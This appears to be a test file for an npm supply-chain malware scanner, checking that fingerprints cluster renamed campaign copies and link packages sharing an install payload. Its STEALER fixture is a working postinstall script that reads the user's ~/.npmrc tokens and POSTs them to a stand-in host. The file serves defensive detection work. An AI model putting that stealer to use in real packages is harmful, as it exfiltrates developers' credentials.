// Campaign fingerprints: renamed copies match, different or trivial packages do not, a shared install payload matches
// inside otherwise different packages; the evaluation's cluster figures count what they would group.
import { beforeAll, describe, expect, it } from 'vitest'
import { DEFAULT_ARCHIVE_LIMITS } from '../../src/core/archive-limits.ts'
import { npmEcosystem } from '../../src/protocols/npm/ecosystem.ts'
import { analyzeArtifact, initEngine, type ScanReport } from '../../src/scanning/engine.ts'
import { clusterFigures, type Label } from '../../src/scanning/evaluate.ts'
import { npmTarball } from '../helpers/tarballs.ts'
import { campaignFiles } from '../helpers/campaign-fixtures.ts'

beforeAll(async () => {
  await initEngine()
})

async function scan(name: string, version: string, files: Record<string, string>, manifest: Record<string, unknown> = {}): Promise<ScanReport> {
  return analyzeArtifact(await npmEcosystem.readArtifact(await npmTarball(name, version, files, manifest), DEFAULT_ARCHIVE_LIMITS), npmEcosystem)
}

const STEALER = `const https = require('https')
const fs = require('fs')
const os = require('os')
const rc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8')
const req = https.request({ hostname: 'collect.example.net', path: '/k', method: 'POST' })
req.write(rc)
req.end()
`

const LIBRARY = (n: number) => `// utilities, part ${n}
module.exports = function slugify(text) {
  return String(text).normalize('NFKD').replace(/[\\u0300-\\u036f]/g, '').toLowerCase().replace(/[^a-z0-9]+/g, '-').replace(/^-+|-+$/g, '')
}
module.exports.version = ${n}
`

describe('campaign fingerprints', () => {
  it('match renamed copies with other versions, descriptions and authors', async () => {
    const a = await scan('tint-fast', '1.0.0', campaignFiles('tint-fast'), { description: 'colours', author: 'a', scripts: { postinstall: 'node setup.js' } })
    const b = await scan('colourz-pro', '7.3.1', campaignFiles('colourz-pro'), { description: 'best colours', author: 'b', scripts: { postinstall: 'node setup.js' } })
    expect(a.fingerprints?.content).toBeDefined()
    expect(b.fingerprints?.content).toBe(a.fingerprints?.content)
    expect(b.fingerprints?.payloads).toEqual(a.fingerprints?.payloads)
    expect(a.fingerprints?.payloads).toHaveLength(1) // setup.js runs at install
  })

  it('differ for different code, and leave trivial packages without a content fingerprint', async () => {
    const a = await scan('slug-one', '1.0.0', { 'index.js': LIBRARY(1) + 'x'.repeat(300) })
    const b = await scan('slug-two', '1.0.0', { 'index.js': LIBRARY(2) + 'x'.repeat(300) })
    expect(a.fingerprints?.content).toBeDefined()
    expect(a.fingerprints?.content).not.toBe(b.fingerprints?.content)
    const trivial = await scan('tiny-thing', '1.0.0', { 'index.js': 'module.exports = {}\n' })
    expect(trivial.fingerprints?.content).toBeUndefined()
  })

  it('tie two different packages by the same install payload, but not the library code around it', async () => {
    const a = await scan('slug-one', '1.0.1', { 'index.js': LIBRARY(1), 'install.js': STEALER }, { scripts: { postinstall: 'node install.js' } })
    const b = await scan('other-lib', '2.0.0', { 'index.js': LIBRARY(9), 'lib/install.js': STEALER }, { scripts: { postinstall: 'node lib/install.js' } })
    const clean = await scan('slug-one', '1.0.0', { 'index.js': LIBRARY(1) })
    expect(a.fingerprints?.content).not.toBe(b.fingerprints?.content)
    expect(a.fingerprints?.payloads.some((p) => b.fingerprints?.payloads.includes(p))).toBe(true)
    // the clean library's own code is not a payload, so it shares nothing with the trojaned copy
    expect(clean.fingerprints?.payloads ?? []).toEqual([])
  })

  it('are counted by the evaluation as clusters, within and across labels', async () => {
    const outcome = (label: Label, report: ScanReport) => ({ label, path: report.name, flagged: false, report, ms: 1 })
    const copies = await Promise.all(['tint-a', 'tint-b', 'tint-c'].map((n) => scan(n, '1.0.0', campaignFiles(n), { scripts: { postinstall: 'node setup.js' } })))
    const benignTwins = await Promise.all(['slug-x', 'slug-y'].map((n) => scan(n, '1.0.0', { 'index.js': LIBRARY(3) + 'y'.repeat(300) })))
    const lonely = await scan('slug-z', '1.0.0', { 'index.js': LIBRARY(4) + 'z'.repeat(300) })
    const benignCopy = await scan('tint-d', '1.0.0', campaignFiles('tint-d'), { scripts: { postinstall: 'node setup.js' } })
    const figures = clusterFigures([
      ...copies.map((r) => outcome('malicious', r)),
      ...benignTwins.map((r) => outcome('benign', r)),
      outcome('benign', lonely),
      outcome('benign', benignCopy),
    ])
    expect(figures.malicious).toEqual({ clustered: 3, of: 3, groups: 1 })
    expect(figures.benign).toEqual({ clustered: 2, of: 4 })
    expect(figures.benignWithMalicious).toBe(1)
    expect(figures.examples.join('\n')).toMatch(/malicious .*tint-[abc].* with npm:tint-d/)
  })
})
